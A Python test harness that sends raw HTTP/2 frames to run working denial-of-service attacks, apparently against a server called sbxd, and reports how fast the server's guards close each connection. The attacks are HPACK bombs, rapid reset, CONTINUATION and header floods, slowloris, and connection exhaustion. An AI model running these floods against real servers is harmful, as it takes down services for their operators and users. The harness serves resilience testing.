#!/usr/bin/python3
"""h2attack.py: one hostile HTTP/2 client per attack class, against a real sbxd.

usage: /usr/bin/python3 h2attack.py CLASS --port P [options]   (--help lists them)

Raw frames (so it can send what a polite client never would); responses are
decoded with Debian's python3-hpack.  Every class runs for --seconds and is
bounded in what it sends; when the server closes an abusive connection the
class opens the next one (one abusive connection at a time unless the class
says otherwise: continuation uses --conns 4, conn-flood and fd-exhaustion
hold many).  It prints one line of JSON:

  conns          connections opened; closed: how many the server closed
  goaway         GOAWAY error codes seen -> count; statuses: HTTP statuses seen
  cross_to_close_ms  per closed connection, from crossing to the close (or
                 the GOAWAY if that came first), in ms of this process's clock
  bytes_sent, frames_sent, refused (connections refused/reset at once)
  first          the first connection's record: t_connect, t_cross, t_goaway,
                 t_closed (s since start), goaway code, bytes sent

Crossing is the first abusive frame sent (an upper bound of the moment the
server's budget was crossed), unless --cross-after S (the budget is a
timeout: crossing is S after the connection opened) or --cross-count N (the
Nth abusive unit sent).
"""
import argparse
import errno
import json
import os
import resource
import selectors
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
MAX_FRAME = 16384

T0 = time.monotonic()
CROSS_COUNT = 1  # --cross-count


def now():
    return time.monotonic() - T0


# The wire helpers are h2abuse.py's (beside this file, on sys.path as the
# script's directory): one frame and HPACK integer encoder for both tools.
from h2abuse import frame, hpack_int, hpack_str  # noqa: E402


def literal(name, value, first=0x00):
    """A literal field with a new name: 0x00 without indexing, 0x40 with incremental indexing."""
    return bytes([first]) + hpack_str(name) + hpack_str(value)


def request_block(method, path, authority, token=None, extra=b""):
    block = literal(":method", method) + literal(":scheme", "http") + literal(":path", path)
    block += literal(":authority", authority)
    if token:
        block += literal("authorization", "Bearer " + token)
    if method == "POST":
        block += literal("content-type", "application/json")
    return block + extra


def header_frames(sid, block, end_stream=False, end_headers=True):
    """HEADERS (+ CONTINUATIONs) carrying block, split at the default max frame size."""
    pieces = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = []
    for i, p in enumerate(pieces):
        last = i == len(pieces) - 1
        flags = (END_HEADERS if last and end_headers else 0)
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), sid, p))
        else:
            out.append(frame(CONTINUATION, flags, sid, p))
    return b"".join(out)


class Closed(Exception):
    pass


class Conn:
    """One client connection: sends raw bytes, reads and decodes what comes back."""

    def __init__(self, host, port, source=None, preface=True):
        self.t_connect = now()
        self.t_cross = self.t_goaway = self.t_closed = None
        self.goaway = None
        self.bytes_sent = self.frames_sent = self.units = 0
        self.closed = False
        self.statuses = []
        self.resets = 0
        self.buf = b""
        self.pending = bytearray()
        self.quiet = False
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 1 << 20
        self.block = b""  # header block being reassembled from HEADERS + CONTINUATION
        self.conn_window = 65535
        self.peer_initial_window = 65535
        self.windows = {}
        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if source:
            self.s.bind((source, 0))
        self.s.settimeout(5)
        self.s.connect((host, port))
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.s.setblocking(False)
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 24)) +
                      frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30))), frames=2)

    def abusive(self, units=1):
        """Count abusive units sent; crossing is the --cross-count'th (default the first)."""
        self.units += units
        if self.t_cross is None and self.units >= CROSS_COUNT:
            self.t_cross = now()

    def _closed(self):
        if not self.closed:
            self.closed = True
            self.t_closed = now()
            try:
                self.s.close()
            except OSError:
                pass

    def send(self, data, frames=1, wait=0.5):
        """Queue data and write what the server takes within `wait` s (reading meanwhile).
        Frames are never cut: what does not fit stays queued, and while more than
        1 MiB is queued (a server that stopped reading) new data is refused: returns
        False.  Raises Closed when the connection is gone."""
        if self.closed:
            raise Closed()
        if len(self.pending) > 1 << 20:
            self.flush(wait)
            return False
        self.pending += data
        self.frames_sent += frames
        self.flush(wait)
        return True

    def flush(self, wait=0.5):
        deadline = time.monotonic() + wait
        while self.pending:
            try:
                n = self.s.send(self.pending)
                del self.pending[:n]
                self.bytes_sent += n
            except BlockingIOError:
                if time.monotonic() > deadline:
                    return
                self.pump(0.01)
            except OSError:
                self._closed()
                raise Closed()

    def pump(self, seconds=0.0):
        """Read and handle what the server sent, for up to `seconds`."""
        if self.closed:
            raise Closed()
        end = time.monotonic() + seconds
        while True:
            try:
                chunk = self.s.recv(1 << 18)
            except BlockingIOError:
                if self.pending:
                    self.flush(0)
                left = end - time.monotonic()
                if left <= 0:
                    return
                sel = selectors.DefaultSelector()
                sel.register(self.s, selectors.EVENT_READ)
                sel.select(min(left, 0.05))
                sel.close()
                continue
            except OSError:
                self._closed()
                raise Closed()
            if not chunk:
                self._closed()
                raise Closed()
            self.buf += chunk
            self._frames()

    def _frames(self):
        while len(self.buf) >= 9:
            ln = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + ln:
                return
            ft, fl, sid = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            p = self.buf[9:9 + ln]
            self.buf = self.buf[9 + ln:]
            if ft == SETTINGS and not fl & ACK:
                for i in range(0, len(p) - 5, 6):
                    k, v = struct.unpack(">HI", p[i:i + 6])
                    if k == 4:
                        self.peer_initial_window = v
                self._reply(frame(SETTINGS, ACK, 0))
            elif ft == PING and not fl & ACK:
                self._reply(frame(PING, ACK, 0, p))
            elif ft == GOAWAY:
                if self.goaway is None:
                    self.goaway = int.from_bytes(p[4:8], "big")
                    self.t_goaway = now()
            elif ft == RST:
                self.resets += 1
            elif ft == WINDOW_UPDATE:
                inc = int.from_bytes(p[:4], "big") & 0x7FFFFFFF
                if sid == 0:
                    self.conn_window += inc
                else:
                    self.windows[sid] = self.windows.get(sid, self.peer_initial_window) + inc
            elif ft in (HEADERS, CONTINUATION):
                if ft == HEADERS:
                    pad = p[0] if fl & 0x8 else 0
                    start = (1 if fl & 0x8 else 0) + (5 if fl & 0x20 else 0)
                    p = p[start:len(p) - pad]
                self.block += p
                if fl & END_HEADERS:
                    try:
                        hdrs = dict(self.decoder.decode(self.block))
                        if ":status" in hdrs:
                            self.statuses.append(int(hdrs[":status"]))
                    except Exception:  # a broken block from the server is worth noting
                        self.statuses.append(-1)
                    self.block = b""

    def _reply(self, data):
        if self.quiet:  # dribbling a frame: an ACK now would land inside it
            return
        self.pending += data  # written with the next send or flush, never inside another frame

    def window(self, sid):
        return min(self.conn_window, self.windows.get(sid, self.peer_initial_window))

    def record(self):
        return {k: (round(v, 4) if isinstance(v, float) else v) for k, v in
                (("t_connect", self.t_connect), ("t_cross", self.t_cross), ("t_goaway", self.t_goaway),
                 ("t_closed", self.t_closed), ("goaway", self.goaway), ("bytes_sent", self.bytes_sent),
                 ("frames_sent", self.frames_sent))}


class Attack:
    """The loop shared by classes: connect, abuse until the server closes, again until time is up."""

    def __init__(self, a):
        self.a = a
        self.end = time.monotonic() + a.seconds
        self.conn_end = None  # set per connection by repeat()
        self.conns = []
        self.refused = 0
        self.authority = "%s:%d" % (a.host, a.port)

    # A connection started near the end still gets CONN_MIN_S of abuse, so
    # every connection the report counts had the time to cross its budget
    # (the run is at most that much longer than asked).
    CONN_MIN_S = 1.0

    def left(self):
        return (self.conn_end or self.end) - time.monotonic()

    def connect(self, source=None, preface=True):
        try:
            c = Conn(self.a.host, self.a.port, source or self.a.source, preface)
        except OSError:
            self.refused += 1
            return None
        self.conns.append(c)
        return c

    def repeat(self, body):
        """Run body(conn) on one connection after another until time or --max-conns is up."""
        while self.end > time.monotonic() and len(self.conns) < self.a.max_conns:
            self.conn_end = None
            c = self.connect()
            if c is None:
                time.sleep(0.05)
                continue
            self.conn_end = max(self.end, time.monotonic() + self.CONN_MIN_S)
            try:
                body(c)
                while self.left() > 0:  # the abuse is over: wait for the server's verdict
                    c.pump(min(self.left(), 0.2))
            except Closed:
                time.sleep(0.02)  # one abusive connection at a time, but not a connect storm
        self.settle()

    def settle(self):
        """Give open connections a last moment to see a GOAWAY or close; one that
        crossed a budget just before time ran out gets up to 1 s from its crossing
        (the bound it is held to), so a loaded box does not leave it open."""
        for c in self.conns:
            if not c.closed:
                wait = 0.05
                if c.t_cross is not None:
                    wait = max(wait, c.t_cross + 1.0 - now())
                try:
                    c.pump(wait)
                except Closed:
                    pass

    def flood(self, c, unit, count=1, batch=200):
        """Send `unit` (count frames) over and over until time is up."""
        data = unit * batch
        while self.left() > 0:
            c.abusive(batch)
            c.send(data, frames=count * batch)
            c.pump(0)

    def report(self):
        closed = [c for c in self.conns if c.closed or c.goaway is not None]
        ends = []
        for c in closed:
            t_end = min(t for t in (c.t_goaway, c.t_closed) if t is not None)
            cross = c.t_cross
            if self.a.cross_after is not None:
                cross = c.t_connect + self.a.cross_after
            if cross is not None:
                ends.append(round((t_end - cross) * 1000, 1))
        if self.a.cls in ("conn-flood", "fd-exhaustion") and self.a.cross_count:
            # The server may shed any of the source's connections (an idle one first) rather
            # than the newest: pair the k-th connection over budget with the k-th close.
            crosses = sorted(c.t_cross for c in self.conns if c.t_cross is not None)
            closes = sorted(min(t for t in (c.t_goaway, c.t_closed) if t is not None) for c in closed)
            ends = [round((cl - cr) * 1000, 1) for cr, cl in zip(crosses, closes)]
            ends += [None] * (len(crosses) - len(closes))
            if None in ends:
                ends = [e for e in ends if e is not None] + [round((now() - max(crosses)) * 1000, 1)]
        goaway, statuses = {}, {}
        for c in self.conns:
            if c.goaway is not None:
                goaway[str(c.goaway)] = goaway.get(str(c.goaway), 0) + 1
            for s in c.statuses:
                statuses[str(s)] = statuses.get(str(s), 0) + 1
        return {"class": self.a.cls, "seconds": self.a.seconds, "conns": len(self.conns),
                "closed": sum(1 for c in self.conns if c.closed), "refused": self.refused,
                "open_at_end": sum(1 for c in self.conns if not c.closed),
                "goaway": goaway, "statuses": statuses, "resets": sum(c.resets for c in self.conns),
                "cross_to_close_ms": ends[:50], "max_cross_to_close_ms": max(ends) if ends else None,
                "bytes_sent": sum(c.bytes_sent for c in self.conns),
                "frames_sent": sum(c.frames_sent for c in self.conns),
                "first": self.conns[0].record() if self.conns else None}


def cls_hpack_bomb(at):
    """One 4 KB header into the dynamic table, then ~410 KB blocks of one-byte references
    to it (each decodes to ~1.6 GB of headers), streams held open, no token."""
    a = at.a
    refs = b"\xbe" * (a.size or 410000)  # 0xbe: indexed field 62, the newest dynamic entry
    sent = [0]  # streams, over every connection: bounded by --count (default 40)

    def body(c):
        sid = 1
        seed = request_block("POST", "/v1/sessions", at.authority) + literal("x-bomb", "b" * 4000, 0x40)
        c.send(header_frames(sid, seed))
        c.pump(0.05)
        while at.left() > 0 and sent[0] < (a.count or 40):
            sent[0] += 1
            sid += 2
            c.abusive()
            c.send(header_frames(sid, request_block("POST", "/v1/sessions", at.authority, extra=refs)),
                   frames=len(refs) // MAX_FRAME + 1)
            c.pump(0.01)
    at.repeat(body)


def cls_body_hold(at):
    """100 unauthenticated POST streams, each sending a body just under --max-body
    (as fast as flow control lets), never ending the stream."""
    a = at.a
    size = (a.size or 8 * 1024 * 1024) - 1024
    chunk = b"x" * MAX_FRAME

    def body(c):
        c.pump(0.05)  # the server's SETTINGS (initial window)
        sids = [1 + 2 * i for i in range(a.streams)]
        block = request_block("POST", "/v1/sessions/attack/runs", at.authority)
        c.send(b"".join(header_frames(s, block, end_headers=True) for s in sids), frames=len(sids))
        left = {s: size for s in sids}
        c.abusive()
        while at.left() > 0 and left:
            progressed = False
            for s in list(left):
                n = min(MAX_FRAME, left[s], c.window(s))
                if n <= 0:
                    continue
                c.send(frame(DATA, 0, s, chunk[:n]))
                c.conn_window -= n
                c.windows[s] = c.windows.get(s, c.peer_initial_window) - n
                left[s] -= n
                if left[s] == 0:
                    del left[s]
                progressed = True
            c.pump(0 if progressed else 0.05)
    at.repeat(body)


def cls_header_flood(at):
    """Blocks of 20,000 distinct literal headers, one per stream, one stream after another."""
    a = at.a
    n = a.count or 20000
    extra = b"".join(literal("x-flood-%d" % i, "v%d" % i) for i in range(n))

    def body(c):
        sid = 1
        while at.left() > 0:
            c.abusive()
            c.send(header_frames(sid, request_block("GET", "/v1/sessions", at.authority, extra=extra),
                                 end_stream=True), frames=len(extra) // MAX_FRAME + 1)
            sid += 2
            c.pump(0.01)
    at.repeat(body)


def cls_rapid_reset(at):
    """HEADERS (+DATA) + RST_STREAM(CANCEL), kept up: run requests with --token/--session,
    else unauthenticated GETs."""
    a = at.a
    if a.token and a.session:
        block = request_block("POST", "/v1/sessions/%s/runs" % a.session, at.authority, a.token)
        payload = json.dumps({"cmd": "sleep 100; : sbx-abuse-marker"}).encode()
    else:
        block = request_block("GET", "/v1/sessions", at.authority)
        payload = None

    def body(c):
        sid = 1
        while at.left() > 0 and sid < (1 << 31) - 1000:
            out = []
            for _ in range(100):
                if payload:
                    out.append(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, payload))
                else:
                    out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
                out.append(frame(RST, 0, sid, struct.pack(">I", 8)))
                sid += 2
            c.abusive(100)
            c.send(b"".join(out), frames=len(out) * (3 if payload else 2) // 2)
            c.pump(0)
    at.repeat(body)


def cls_continuation(at):
    """HEADERS without END_HEADERS, then empty CONTINUATION frames, on --conns connections at once."""
    a = at.a
    block = request_block("GET", "/healthz", at.authority)
    unit = frame(CONTINUATION, 0, 1)
    live = []
    last = 0
    while at.left() > 0 and len(at.conns) < a.max_conns:
        # Reopen what the server closed, at most one connection per 20 ms (no connect storm).
        while len(live) < a.conns and len(at.conns) < a.max_conns and (
                len(live) == 0 or time.monotonic() - last >= 0.02):
            last = time.monotonic()
            c = at.connect()
            if c is None:
                break
            try:
                c.send(frame(HEADERS, 0, 1, block))
                live.append(c)
            except Closed:
                pass
        for c in list(live):
            try:
                c.abusive(500)
                c.send(unit * 500, frames=500, wait=0.05)
                c.pump(0)
            except Closed:
                live.remove(c)
        if not live:
            time.sleep(0.05)
    at.settle()


def cls_zero_length(at):
    """Header blocks of zero-length names and values (added to the dynamic table), stream after stream."""
    extra = b"\x40\x00\x00" * 4000

    def body(c):
        sid = 1
        while at.left() > 0:
            c.abusive()
            c.send(header_frames(sid, request_block("GET", "/healthz", at.authority, extra=extra),
                                 end_stream=True))
            sid += 2
            c.pump(0)
    at.repeat(body)


def cls_empty_data(at):
    """One open POST stream, then zero-length DATA frames without END_STREAM."""
    a = at.a
    path = "/v1/sessions/%s/runs" % a.session if a.session else "/v1/sessions"

    def body(c):
        c.send(frame(HEADERS, END_HEADERS, 1, request_block("POST", path, at.authority, a.token)))
        at.flood(c, frame(DATA, 0, 1))
    at.repeat(body)


def cls_priority(at):
    """PRIORITY frames reshuffling the dependency tree of 100 idle streams, kept up."""
    def body(c):
        out = []
        for i in range(400):
            sid = 1 + 2 * (i % 100)
            dep = 1 + 2 * ((i * 37 + 11) % 100)
            if dep == sid:
                dep += 2
            excl = 0x80000000 if i % 2 else 0
            out.append(frame(PRIORITY, 0, sid, struct.pack(">IB", dep | excl, i % 256)))
        at.flood(c, b"".join(out), count=400, batch=5)
    at.repeat(body)


def cls_settings(at):
    """Non-empty SETTINGS frames, kept up (each wants an ACK)."""
    def body(c):
        at.flood(c, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
    at.repeat(body)


def cls_ping(at):
    """PING frames, kept up (each wants an ACK)."""
    def body(c):
        at.flood(c, frame(PING, 0, 0, b"sbxattck"))
    at.repeat(body)


def cls_window_update(at):
    """WINDOW_UPDATE(+1) on the connection, kept up."""
    def body(c):
        at.flood(c, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
    at.repeat(body)


def cls_slowloris(at):
    """--part preface: the connection preface dribbled a byte a second; --part headers: a
    request's HEADERS frame dribbled likewise.  --conns connections at once; crossing is
    --cross-after (the server's header timeout) after each connected."""
    a = at.a
    pre = a.part == "preface"
    data = PREFACE + frame(SETTINGS, 0, 0) if pre else frame(
        HEADERS, END_HEADERS | END_STREAM, 1, request_block("GET", "/healthz", at.authority))
    live = []
    for _ in range(a.conns):
        c = at.connect(preface=not pre)
        if c:
            c.quiet = True
            live.append(c)
    pos = 0
    while at.left() > 0 and live:
        for c in list(live):
            try:
                if pos < len(data):
                    c.send(data[pos:pos + 1])
                c.pump(0)
            except Closed:
                live.remove(c)
        pos += 1
        time.sleep(min(a.interval, max(at.left(), 0)))
    at.settle()


def cls_conn_flood(at):
    """--conns connections (preface and SETTINGS, then idle), held; from --sources
    addresses 127.0.0.2.. (round robin) or --source.  Crossing for connection k is
    its connect when k > --cross-count (the server's budget)."""
    a = at.a
    sources = ["127.0.0.%d" % (2 + i) for i in range(a.sources)] if a.sources else [a.source]
    for i in range(a.conns):
        if at.left() <= 0:
            break
        c = at.connect(source=sources[i % len(sources)])
        if c is not None and a.cross_count and i >= a.cross_count:
            c.t_cross = c.t_connect
    while at.left() > 0:
        live = [c for c in at.conns if not c.closed]
        if not live:
            break
        for c in live:
            try:
                c.pump(0)
            except Closed:
                pass
        time.sleep(0.02)
    at.settle()


def cls_control(at):
    """Legitimate traffic of the attacks' shapes, under every budget, on one connection:
    a PING, a SETTINGS, a PRIORITY, a request whose header block is split over 3
    CONTINUATIONs, 5 requests each reset by the client, a POST ending in an empty
    DATA(END_STREAM) as curl sends, then GET /healthz.  A guard that cuts any of
    these shows as closed / a GOAWAY in the report."""
    a = at.a
    c = at.connect()
    if c is None:
        return
    try:
        c.pump(0.1)
        c.send(frame(PING, 0, 0, b"control!") + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 24)) +
               frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)), frames=3)
        block = request_block("GET", "/healthz", at.authority)
        third = len(block) // 4
        c.send(frame(HEADERS, END_STREAM, 1, block[:third]) + frame(CONTINUATION, 0, 1, block[third:2 * third]) +
               frame(CONTINUATION, 0, 1, block[2 * third:3 * third]) +
               frame(CONTINUATION, END_HEADERS, 1, block[3 * third:]), frames=4)
        sid = 3
        for _ in range(5):
            c.send(frame(HEADERS, END_HEADERS, sid, request_block("GET", "/healthz", at.authority)) +
                   frame(RST, 0, sid, struct.pack(">I", 8)), frames=2)
            sid += 2
        if a.token and a.session:
            c.send(frame(HEADERS, END_HEADERS, sid, request_block(
                "POST", "/v1/sessions/%s/runs" % a.session, at.authority, a.token)) +
                frame(DATA, 0, sid, json.dumps({"cmd": ["/bin/true"]}).encode()) +
                frame(DATA, END_STREAM, sid, b""), frames=3)
            sid += 2
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
        c.pump(min(max(at.left(), 0.5), 2.0))
    except Closed:
        pass


CLASSES = {
    "control": cls_control,
    "hpack-bomb": cls_hpack_bomb, "body-hold": cls_body_hold, "header-flood": cls_header_flood,
    "rapid-reset": cls_rapid_reset, "continuation": cls_continuation, "zero-length": cls_zero_length,
    "empty-data": cls_empty_data, "priority": cls_priority, "settings": cls_settings, "ping": cls_ping,
    "window-update": cls_window_update, "slowloris": cls_slowloris, "conn-flood": cls_conn_flood,
    "fd-exhaustion": cls_conn_flood,
}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("cls", choices=sorted(CLASSES))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, default=2.0)
    p.add_argument("--token", help="a tenant's token (rapid-reset, empty-data)")
    p.add_argument("--session", help="that tenant's session id (rapid-reset, empty-data)")
    p.add_argument("--source", help="local address to connect from")
    p.add_argument("--sources", type=int, default=0, help="conn-flood: spread over 127.0.0.2..")
    p.add_argument("--conns", type=int, default=1, help="connections at once (continuation, slowloris, floods)")
    p.add_argument("--max-conns", type=int, default=2000, help="bound on connections opened in all")
    p.add_argument("--count", type=int, default=0, help="hpack-bomb: streams in all (40); header-flood: headers (20000)")
    p.add_argument("--size", type=int, default=0, help="hpack-bomb block / body-hold body size (bytes)")
    p.add_argument("--streams", type=int, default=100, help="body-hold: streams")
    p.add_argument("--part", choices=("preface", "headers"), default="preface")
    p.add_argument("--interval", type=float, default=1.0, help="slowloris: seconds between bytes")
    p.add_argument("--cross-after", type=float, default=None)
    p.add_argument("--cross-count", type=int, default=0)
    a = p.parse_args()
    if a.cls == "fd-exhaustion" and not a.sources:
        a.sources = 20
    want = a.conns + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    global CROSS_COUNT
    CROSS_COUNT = max(1, a.cross_count)
    at = Attack(a)
    CLASSES[a.cls](at)
    print(json.dumps(at.report()))
    sys.stdout.flush()


if __name__ == "__main__":
    try:
        main()
    except BrokenPipeError:
        os._exit(errno.EPIPE)
